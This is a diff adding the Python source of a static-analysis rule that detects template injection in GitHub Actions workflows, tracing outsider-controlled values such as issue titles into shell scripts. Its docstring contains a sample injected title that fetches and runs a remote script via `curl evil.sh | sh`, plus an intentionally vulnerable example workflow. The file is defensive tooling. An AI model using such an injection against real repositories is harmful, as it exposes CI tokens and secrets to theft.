@@ -1,0 +1,163 @@
+"""CI001: attacker-controlled expressions expanded into shell scripts and code."""
+
+from __future__ import annotations
+
+import enum
+from collections.abc import Iterator, Mapping
+from typing import TYPE_CHECKING, ClassVar
+
+from outwork.analyzers.pipelines import data
+from outwork.analyzers.pipelines.checks import WorkflowCheck
+from outwork.analyzers.pipelines.expressions import expressions, value_contexts
+from outwork.analyzers.pipelines.paths import key_path
+from outwork.analyzers.pipelines.workflow import MAX_FINDINGS_PER_SINK, Step, Taint, Where, lookup
+from outwork.core.findings import finding
+from outwork.core.rules import Confidence, Layer, Rule, Severity
+
+if TYPE_CHECKING:
+    from outwork.analyzers.pipelines.workflow import Job
+    from outwork.analyzers.pipelines.yamlpos import Node
+    from outwork.core.analyzer import Emitted
+
+
+class Tainted(enum.Enum):
+    """Whose value an expression expands."""
+
+    ATTACKER = "a value an outsider chooses (titles, bodies, comments, a fork's branch name)"
+    UNCERTAIN = (
+        "a value an outsider may choose (workflow inputs, this repository's branch and tag"
+        " names, other event fields, outputs of actions that read them)"
+    )
+
+
+class TemplateInjection(Rule):
+    """An attacker-controlled expression is expanded into a shell script or JavaScript code.
+
+    ## What it finds
+    `${{ ... }}` expressions in `run:` scripts and in `actions/github-script` code whose value an
+    outsider controls: issue and pull-request titles and bodies, comment bodies, branch names,
+    commit messages, and values derived from them through `env`, step outputs (`$GITHUB_OUTPUT`)
+    and job outputs (`needs.*.outputs.*`). The evidence names the taint path, for example
+    `github.event.issue.title -> env.TITLE -> jobs.triage.steps[0].run`. Workflow inputs and
+    unknown event fields are reported with low confidence.
+
+    ## Why it matters
+    GitHub substitutes expressions into the script text before the shell sees it, so a pull
+    request titled `"; curl evil.sh | sh; #` runs the attacker's command with the job's token and
+    secrets. This is the most common way repositories leak secrets through their CI.
+
+    ## Example
+    ```yaml
+    on: issues
+    jobs:
+      triage:
+        runs-on: ubuntu-latest
+        steps:
+          - run: echo "${{ github.event.issue.title }}"
+    ```
+
+    ## Remediation
+    Pass the value through an environment variable and quote it in the shell:
+    `env: {TITLE: "${{ github.event.issue.title }}"}` then `run: echo "$TITLE"`. Never re-expand
+    it with `${{ env.TITLE }}`.
+
+    ## References
+    - GitHub Docs, "Security hardening for GitHub Actions: understanding the risk of script
+      injections"
+    - zizmor audit `template-injection`
+    - CWE-94: Improper Control of Generation of Code ('Code Injection')
+    """
+
+    code = "CI001"
+    name = "template-injection"
+    layer = Layer.CI
+    severity = Severity.HIGH
+    confidence = Confidence.HIGH
+    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
+        Tainted.ATTACKER: Severity.HIGH,
+        Tainted.UNCERTAIN: Severity.MEDIUM,
+    }
+    cwe = (94, 78)
+    attack = ("T1059",)
+
+
+class TemplateInjectionCheck(WorkflowCheck):
+    """``run:`` scripts and the code inputs of actions (``data.ACTION_CODE_SINKS``) that expand
+    tainted contexts; a called workflow handed attacker data marks the job injected."""
+
+    rules = (TemplateInjection,)
+
+    def job(self, job: Job) -> Iterator[Emitted]:
+        assert job.node is not None
+        uses = job.node.get("uses")
+        with_ = job.node.get("with")
+        if uses is None or not uses.is_str or with_ is None:
+            return iter(())
+        for _, value in with_.items():
+            hits = self.wf.taints_in(value.value, {}, {}) if value.is_str else []
+            if any(t.confidence is Confidence.HIGH for _, t in hits):
+                job.injected = True  # attacker data handed to the called workflow
+        return iter(())
+
+    def step(self, step: Step) -> Iterator[Emitted]:
+        if step.run is not None and step.run.is_str:
+            yield from self._sink(step, step.run, step.script, (*step.where, "run"))
+        sink = lookup(data.ACTION_CODE_SINKS, step.name)
+        if sink is None:
+            return
+        with_ = step.node.get("with")
+        for key, code in with_.items() if with_ is not None else []:
+            if key.lower() in sink[1] and code.is_str:
+                yield from self._sink(step, code, code.value, (*step.where, "with", key))
+
+    def _sink(self, step: Step, node: Node, script: str, where: Where) -> Iterator[Emitted]:
+        occurrence: dict[str, int] = {}
+        cursor: dict[str, int] = {}
+        emitted = 0
+        doc = self.wf.doc
+        for expr in expressions(script):
+            raw = script[expr.start : expr.end]
+            count = occurrence[raw] = occurrence.get(raw, -1) + 1
+            hits = [self.wf.classify(c, step.env, step.outputs) for c in value_contexts(expr.body)]
+            tainted = [h for h in hits if h]
+            if not tainted:
+                continue
+            index = doc.find_after(node, raw, cursor.get(raw, node.start - 1))
+            if index >= 0:
+                cursor[raw] = index
+                position = doc.position(index)
+            else:
+                position = (node.line, node.col)
+            if step.job.id is not None and any(t.confidence is Confidence.HIGH for t in tainted):
+                step.job.injected = True
+            for item in _findings(position, raw, count, tainted, where):
+                emitted += 1
+                if emitted > MAX_FINDINGS_PER_SINK:
+                    return
+                yield item
+
+
+def _findings(
+    position: tuple[int, int], raw: str, count: int, hits: list[Taint], where: Where
+) -> Iterator[Emitted]:
+    seen: set[str] = set()
+    for taint in hits:
+        if taint.chain[0] in seen:
+            continue
+        seen.add(taint.chain[0])
+        line, col = position
+        nth = f"#{count + 1}" if count else ""
+        chain = " -> ".join((*taint.chain, key_path(*where)))
+        high = taint.confidence is Confidence.HIGH
+        yield finding(
+            TemplateInjection,
+            f"{taint.chain[0]} is expanded into {'code' if 'script' in where else 'a script'}"
+            + ("" if high else " (may be attacker-controlled)"),
+            line=line,
+            column=col,
+            logical=f"{key_path(*where)}:{taint.chain[0]}{nth}",
+            severity=TemplateInjection.severity_in(Tainted.ATTACKER if high else Tainted.UNCERTAIN),
+            confidence=taint.confidence,
+            evidence=chain,
+            properties={"taint": [*taint.chain, key_path(*where)]},
+        )
